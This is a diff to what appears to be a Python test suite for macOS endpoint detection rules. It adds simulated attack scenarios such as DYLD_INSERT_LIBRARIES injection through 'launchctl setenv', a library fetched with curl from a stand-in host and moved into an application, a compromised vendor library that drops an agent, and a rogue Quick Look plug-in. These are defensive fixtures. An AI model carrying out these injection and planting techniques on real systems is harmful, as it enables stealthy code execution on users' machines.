@@ -1,9 +1,9 @@
 """Libraries: S08 to S14, S17, S20."""
 
 from book import Book
-from mac import ADHOC, AD_HOC, FINDER, HARDENED, HOME, LAUNCHD, LINKED, PLAIN, SHELL, TEMP, VALIDATED, Library, Program, running
-from people import (APPLESCRIPT, BASH, BROWSER, CHAT, CODESIGN, CP, CURL, EDITOR, EDITOR_KIT, INSTALLD, JAVASCRIPT, LOOSE,
-                    LOOSE_KIT, NODE, OSASCRIPT, PYTHON, QLMANAGE, SAVER_HOST, SH, STANDARD_ADDITIONS, STUDIO, XCODE, dropped)
+from mac import AD_HOC, HARDENED, HOME, LAUNCHD, PLAIN, SHELL, TEMP, Library, Program, apple
+from people import (APPLESCRIPT, BASH, CHAT, CODESIGN, CP, CURL, EDITOR, EDITOR_KIT, INSTALLD, JAVASCRIPT, LOOSE, LOOSE_KIT, PYTHON,
+                    QLMANAGE, SAVER_HOST, SH, STANDARD_ADDITIONS, STUDIO, dropped)
 
 BOOK = Book()
 HOOK = "/Users/Shared/.cache/libhook.dylib"
@@ -42,6 +42,23 @@ def injected_by_path(mac):
 
 BOOK.attack("S08", "library by environment", "Framework found by DYLD_FRAMEWORK_PATH", injected_by_path, span=15, name="path",
             other="mac-monitor", variants=["plain", "order_noise", "delays", "other_sensor"], allow=["S20", "S09-library"])
+
+
+def injected_by_launchd(mac):
+    """Somebody sets DYLD_INSERT_LIBRARIES for the whole session with launchctl. The next application that the user starts without the hardened
+    runtime maps his library, and launchd is its parent."""
+    library = HOME + "/Library/Fonts/.fontd/libfontd.dylib"
+    mac.exit(mac.start(apple("/bin/launchctl", "com.apple.launchctl"), SHELL, ["launchctl", "setenv", "DYLD_INSERT_LIBRARIES", library]))
+    mac.begin()
+    p = mac.start(LOOSE, LAUNCHD, env=["DYLD_INSERT_LIBRARIES=" + library])
+    mac.wait()
+    mac.load(p, Library(library, "signed", "F0RE1GNTM5", "fontd"))
+    mac.end()
+    return LOOSE.path
+
+
+BOOK.attack("S08", "library by environment", "Library injected by launchctl setenv", injected_by_launchd, span=15, name="session",
+            other="elastic", variants=["plain", "order_noise", "delays", "other_sensor"], allow=["S20", "S09"])
 
 
 def variable_ignored(mac):
@@ -175,6 +192,29 @@ BOOK.attack("S10", "planted library", "Library planted in an application by a sc
             other="mac-monitor", variants=["other_sensor"])
 
 
+BOOK.attack("S10-unsure", "planted library", "Library of unknown signer planted by a script", planted_by_script, variants=["weak"],
+            weak=["S10", "S10-unsure"])
+
+
+def planted_by_rename(mac):
+    """A script downloads a library under another name and moves it into an application, over the one that was there."""
+    script = mac.start(SH, SHELL, ["sh", "-s"])
+    curl = mac.start(CURL, script, ["curl", "-o", "/tmp/a.part", "https://cdn.example/l"])
+    mac.write(curl, "/private/tmp/a.part")
+    mover = mac.start(apple("/bin/mv", "com.apple.mv"), script, ["mv", "/tmp/a.part", PLANTED])
+    mac.begin()
+    mac.rename(mover, "/private/tmp/a.part", PLANTED)
+    mac.wait()
+    p = mac.start(STUDIO, LAUNCHD)
+    mac.load(p, Library(PLANTED, "signed", "F0RE1GNTM5", "libsamplerate"))
+    mac.end()
+    return STUDIO.path
+
+
+BOOK.attack("S10", "planted library", "Library moved into an application", planted_by_rename, span=86400, name="rename", other="elastic",
+            variants=["plain", "order_noise", "delays", "other_sensor"])
+
+
 def planted_unseen(mac):
     """An application maps a library of nobody in particular that is in it since an hour, while the application itself is
     months old. Who wrote it was not seen."""
@@ -266,6 +306,21 @@ BOOK.attack("S11", "application tampered with", "Chat program rewritten, its tea
             other_note="Jamf shows neither files nor libraries; what remains is that the team is lost.")
 
 
+def rewritten_unmet(mac):
+    """A stranger rewrites an application that was not started while anybody looked. It starts ad hoc."""
+    robber = mac.start(dropped("/opt/tools/robber", "robber", born=-9 * 86400.0))
+    mac.begin()
+    mac.close(robber, CHAT.path)
+    mac.wait()
+    mac.start(RESIGNED, LAUNCHD)
+    mac.end()
+    return CHAT.path
+
+
+BOOK.attack("S11-weak", "application tampered with", "Application rewritten and started ad hoc", rewritten_unmet, span=7200, other="mac-monitor",
+            variants=["plain", "order_noise", "delays", "other_sensor"])
+
+
 def updated_chat(mac):
     """A chat program is brought up to date by its own updater and starts with the same team and new libraries."""
     old = mac.start(CHAT, LAUNCHD)
@@ -307,6 +362,27 @@ BOOK.attack("S12", "trojanised application", "Pirated application starts a hidde
             weak=["S12", "S12-weak"], allow=["S24", "S15"])
 BOOK.attack("S12", "trojanised application", "Pirated application starts a hidden program", pirated, name="mac-monitor",
             other="mac-monitor", variants=["other_sensor"], allow=["S24", "S15"])
+
+
+def supply_chain(mac):
+    """A vendor was robbed: a library of the vendor's own team, new with the last update, leaves a program in the user's Library and
+    starts it."""
+    mac.begin()
+    p = mac.start(EDITOR, LAUNCHD)
+    mac.load(p, EDITOR_KIT)
+    mac.wait()
+    mac.load(p, Library("/Applications/Parlo.app/Contents/Frameworks/libffcodec.dylib", "signed", EDITOR.team, "libffcodec", is_known=False))
+    path = HOME + "/Library/Application Support/Parlo/UpdateAgent"
+    mac.write(p, path)
+    mac.wait()
+    mac.start(dropped(path, "UpdateAgent", born=mac.now), p)
+    mac.end()
+    return EDITOR.path
+
+
+BOOK.attack("S12", "trojanised application", "Vendor's own library starts a program in the user's Library", supply_chain, span=120,
+            name="supply-chain", expect=["S12", "S12-weak"], weak=["S12", "S12-weak"], other="elastic",
+            variants=["plain", "order_noise", "delays", "other_sensor", "weak"])
 
 
 def unpacks_a_helper(mac):
@@ -415,6 +491,21 @@ BOOK.attack("S14", "interpreter's library deleted", "Python maps an oddly named 
             name="mac-monitor", other="mac-monitor", variants=["other_sensor"])
 
 
+def odd_module_stays(mac):
+    """A script in Python maps an unsigned library of an odd name out of a temporary folder, and leaves it there."""
+    p = mac.start(PYTHON, SHELL, ["python3", "app.py"])
+    path = "/private/tmp/.model.dat"
+    mac.write(p, path)
+    mac.begin()
+    mac.load(p, Library(path, "unsigned"))
+    mac.end()
+    return PYTHON.path
+
+
+BOOK.attack("S14-load", "interpreter's library deleted", "Python maps an oddly named library", odd_module_stays, other="elastic",
+            variants=["plain", "order_noise", "other_sensor", "weak"], weak=["S14-load"])
+
+
 def named_as_ever(mac):
     """A test of a Python package maps the extension module that it has just built, and removes it afterwards."""
     p = mac.start(PYTHON, SHELL, ["python3", "-m", "pytest"])
@@ -457,6 +548,24 @@ BOOK.attack("S17", "plug-in runs something", "Screen saver starts a shell", evil
             weak=["S17", "S17-weak"], allow=["S17-load"])
 BOOK.attack("S17", "plug-in runs something", "Screen saver starts a shell", evil_saver, name="mac-monitor", other="mac-monitor",
             variants=["other_sensor"])
+
+
+def foreign_preview(mac):
+    """Somebody installs a generator of previews, signed by a team that nobody has heard of, minutes ago. Apple's host maps it, and it
+    starts a program."""
+    path = HOME + "/Library/QuickLook/Notes.qlgenerator/Contents/MacOS/Notes"
+    mac.write(mac.start(CP, mac.start(SH, SHELL), ["cp", "-R", "/tmp/N", path]), path)
+    p = mac.start(QLMANAGE, LAUNCHD)
+    mac.begin()
+    mac.load(p, Library(path, "signed", "F0RE1GNTM5", "com.example.notes-preview"))
+    mac.wait()
+    mac.start(CURL, p, ["curl", "-s", "https://cdn.example/n"])
+    mac.end()
+    return QLMANAGE.path
+
+
+BOOK.attack("S17", "plug-in runs something", "New preview generator starts a program", foreign_preview, span=300, name="preview",
+            other="elastic", variants=["plain", "order_noise", "delays", "other_sensor"])
 
 
 def signed_preview(mac):
